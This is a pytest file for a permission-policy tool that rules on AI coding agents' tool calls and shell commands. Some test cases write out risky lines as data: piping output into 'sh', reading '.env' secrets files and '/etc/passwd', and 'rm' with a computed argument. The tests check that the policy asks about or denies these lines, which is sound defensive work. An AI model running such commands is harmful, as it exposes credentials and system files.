        ("denied", ()),
    ]
    monkeypatch.setenv("DRAGOMAN_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DRAGOMAN_CACHE_DIR", str(tmp_path / "cache"))
    with contextlib.closing(logs.Query(paths=[str(decisions)])) as query:
        found = logs.statistics(query, logs.Filter(), ("client", "verdict"))
        counted = {tuple(group.group.values()): group.calls.calls for group in found.groups if group.calls}
        assert counted[("claude_code hook", "denied")] == 2
        assert counted[("claude_code hook", "asked")] == counted[("copilot hook", "allowed")] == 1
        assert logs.statistics(query, logs.Filter(), ("tool",)).groups == [], "they are in the client's own log too"


def test_what_would_be_decided_about_a_line_is_explained(
    folder: Path, tmp_path: Path, rules: Rules, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DRAGOMAN_CONFIG_DIR", str(tmp_path / "config"))
    found = explained("cat a*; rm $X", "codex", str(folder))
    assert found.decision.rule == "rule 3 of your settings (operation=delete_file)"
    assert found.effects == (("read", f"{folder}/a*"), ("delete", "…/…"))
    assert found.unknown == ("an argument of 'rm' is computed and may be an option",)


def test_where_the_settings_ask_about_everything_the_project_may_be_read(folder: Path, tmp_path: Path) -> None:
    rules = written_rules(tmp_path, 'policy.approval = "ask"\n')
    verdicts = [
        ("allow", "Read", {"file_path": str(folder / "a.py")}),
        ("ask", "Read", {"file_path": "/etc/passwd"}),
        ("ask", "Read", {"file_path": f"{folder}/../a.py"}),
        ("allow", "Glob", {"pattern": "*", "path": str(folder)}),
        ("ask", "Glob", {"pattern": "*", "path": "/"}),
        ("allow", "TodoWrite", {"todos": []}),
        ("ask", "Write", {"file_path": str(folder / "a.py"), "content": "x"}),
        ("ask", "Bash", {"command": "make"}),
    ]
    found = [(asked(claude(folder, tool, **given), rules).decision.verdict, tool, given) for _, tool, given in verdicts]
    assert found == verdicts


def test_ordinary_lines_pass(rules: Rules, tmp_path: Path) -> None:
    """In a project with a file that the policy keeps: what does not reach it is not stopped for its sake."""
    project = tmp_path / "project"
    for folder in ("src", "d", ".claude", ".git"):
        (project / folder).mkdir(parents=True)
    for name in (".env", "d/.env", "a.py", "src/a.py"):
        (project / name).write_text("x = 1\n")
    (project / "innocent").symlink_to(".env")
    stopped = {}
    for line in (Path(__file__).parent / "ordinary_lines.txt").read_text().splitlines():
        payload = payload_of("claude_code", project, line.replace("⏎", "\n"))
        handled = handle(json.dumps(payload).encode(), "claude_code", "PreToolUse", lambda: rules)
        if handled.decision.verdict not in ("pass", "allow"):
            stopped[line] = handled.decision.rule
    assert stopped == {}


ALLOWED_BY_NAME = {
    # What people allow by name, and lines of theirs.
    "npm test": ("npm test",),
    "npm run *": ("npm run build", "npm run lint -- --fix", "npm run build 2>&1 | tail -20"),
    "npx tsc*": ("npx tsc --noEmit",),
    "python -m pytest*": ("python -m pytest -q", "cd src && python -m pytest tests/test_a.py -k foo -x"),
    "pytest*": ("pytest -q", "pytest tests -x 2>&1 | tail -30", "pytest -q > /dev/null && echo ok"),
    "cargo *": ("cargo build", "cargo test -- --nocapture", "cargo clippy && cargo test"),
    "go *": ("go test ./...", "go build ./... && go vet ./..."),
    "ruff *": ("ruff check .", "ruff format ."),
    "mypy *": ("mypy src",),
    "git commit *": ('git commit -m "fix: x"', "git add a.py && git commit -m 'feat: y'"),
    "git checkout *": ("git checkout -b feature",),
    "git diff*": ("git diff", "git diff HEAD~1", "git diff | head -50"),
    "git show*": ("git show HEAD", "git show --stat HEAD"),
    "git push origin *": ("git push origin main",),
    "docker compose *": ("docker compose up -d",),
    "make": ("make", "make 2>&1 | grep -i error"),
}


@pytest.mark.parametrize("command", ALLOWED_BY_NAME)
def test_a_line_of_programs_that_rules_allow_by_name_passes(command: str, folder: Path, tmp_path: Path) -> None:
    (folder / "src").mkdir()
    more = f'{POLICY}\n[[policy.rules]]\nverdict = "allow"\ncommand = "{command}"\n'
    rules = written_rules(tmp_path, more)
    stopped = {
        line: one.rule
        for line in ALLOWED_BY_NAME[command]
        if (one := asked(payload_of("claude_code", folder, line), rules).decision).verdict not in ("pass", "allow")
    }
    assert stopped == {}


def test_a_command_that_a_rule_allows_may_be_given_to_filters_that_reach_nothing(folder: Path, rules: Rules) -> None:
    """`make *` is allowed by name: its output may be read, and nothing else may be done with it."""
    (folder / "a.py").write_text("x\n")
    verdicts = {
        "make test 2>&1 | tail -n 5": "allow",
        "make test > /dev/null 2>&1": "allow",
        "make test 2>&1 | grep -i error | wc -l": "allow",
        "make test; echo $?": "allow",
        "cd src && make test 2>&1 | tail": "pass",
        "make test; mkdir out": "ask",
        "mkdir out; make test": "pass",
        "make test 2>&1 | tail a.py": "ask",
        "make test; cat a.py": "ask",
        "make test 2>&1 > out": "ask",
        "make test | sh": "ask",
        "python x.py; make test": "ask",
        "make test 2>&1 | tail .env": "deny",
        "make test 2>&1 | grep -f .env": "deny",
    }
    found = {line: asked(payload_of("claude_code", folder, line), rules).decision.verdict for line in verdicts}
    assert found == verdicts


@pytest.mark.slow
def test_plain_calls_are_those_that_the_vocabularies_make_plain() -> None:
    assert plain_calls.written() == plain_calls.FILE.read_text()


def _given(row: Row) -> st.SearchStrategy[dict[str, Any]]:
    """Arguments for a row: of their own kind, most of the time."""
    own = {name: _values(kind) for name, (_, kind) in row[2].items()}
    required = {name: own.pop(name) for name in row[1]}
    return st.fixed_dictionaries(required, optional=own)


def _values(kind: Any) -> st.SearchStrategy[Any]:
    if isinstance(kind, dict):
        return st.sampled_from([*kind, "other", None])
    if isinstance(kind, tuple):
        return st.lists(_given(kind), max_size=3)
    numbers = st.integers(-3, 9_999)
    kinds = {"text": st.text(), "number": numbers, "switch": st.booleans(), "lines": st.lists(numbers, max_size=3)}
    kinds |= {"thousands": numbers, **dict.fromkeys(("texts", "list"), st.lists(st.text(), max_size=3))}
    return kinds[kind] | st.sampled_from(("src/a.py", "a/", "7", 3, 0, True, None, [1, 5], ""))


@given(st.data())
@examples(400)
def test_a_plain_call_means_what_its_vocabulary_says(data: st.DataObject) -> None:
    tools = plain_tools()
    dialect = data.draw(st.sampled_from(sorted(tools)))
    tool = data.draw(st.sampled_from(sorted(tools[dialect])))
    row = data.draw(st.sampled_from(plain_rows(dialect, tool)))
    if row[0] == "patch" and not row[1]:
        arguments: Any = data.draw(st.sampled_from(plain_calls.PATCHES) | st.text())
    else:
        arguments = data.draw(_given(row))
    plain = operations_by(row, arguments)
    assert plain is None or plain == DIALECTS[dialect].read_call(NativeCall("c", tool, arguments)).operations


@given(st.data())
def test_a_tool_that_is_taken_for_unknown_is_unknown_to_its_vocabulary(data: st.DataObject) -> None:
    dialect = data.draw(st.sampled_from(sorted(plain_tools())))
    known = sorted({name for other in plain_tools() for name in plain_calls.names(other)})
    name = data.draw(st.sampled_from(known) | st.text() | st.from_regex(r"[a-z]+[-_.]{0,2}[A-Za-z]+", fullmatch=True))
    arguments = data.draw(st.dictionaries(st.text(), st.text() | st.integers() | st.none(), max_size=3))
    if is_unknown(dialect, name):
        call = DIALECTS[dialect].read_call(NativeCall("c", name, arguments))
        assert call.failure is not None or call.operations == (op.Unrecognised(name, arguments),)
